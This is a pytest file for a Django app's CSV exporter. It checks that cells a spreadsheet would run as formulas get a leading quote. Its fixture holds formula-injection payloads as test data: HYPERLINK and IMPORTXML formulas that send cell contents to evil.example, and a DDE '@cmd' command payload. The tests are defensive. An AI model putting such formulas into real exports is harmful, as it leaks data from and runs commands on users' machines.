"""Cells a spreadsheet would run as formulas are neutralised in the CSV that export_places writes."""

import csv

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from places.exporters import FORMULA_STARTS, neutralize_formula
from tests.factories import make_place

FREE_TEXT_COLUMNS = [
    "nom",
    "adresse",
    "complement_adresse",
    "commune",
    "presentation_resume",
    "presentation_detail",
    "horaires",
    "source",
    "structure_parente",
    "autres_formations_labels",
]


@pytest.mark.django_db
def test_exported_csv_neutralises_formulas_in_free_text(tmp_path):
    make_place(
        name='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        address="+SUM(1,2)",
        address_complement="-2+3",
        description="@cmd|' /C calc'!A0",
        summary="\t=1+1",
        source='=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    )
    path = tmp_path / "export.csv"
    call_command("export_places", path)
    with open(path, encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["nom"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    assert row["adresse"] == "'+SUM(1,2)"
    assert row["complement_adresse"] == "'-2+3"
    assert row["presentation_detail"] == "'@cmd|' /C calc'!A0"
    assert row["presentation_resume"] == "'\t=1+1"
    assert row["source"].startswith("'=IMPORTXML")
    for column in FREE_TEXT_COLUMNS:
        assert not row[column].startswith(FORMULA_STARTS), column


@settings(database=None)
@given(st.text())
def test_neutralize_formula_only_prefixes_cells_that_start_a_formula(value):
    result = neutralize_formula(value)
    assert not result.startswith(FORMULA_STARTS)
    assert result in (value, "'" + value)
    assert (result != value) == value.startswith(FORMULA_STARTS)
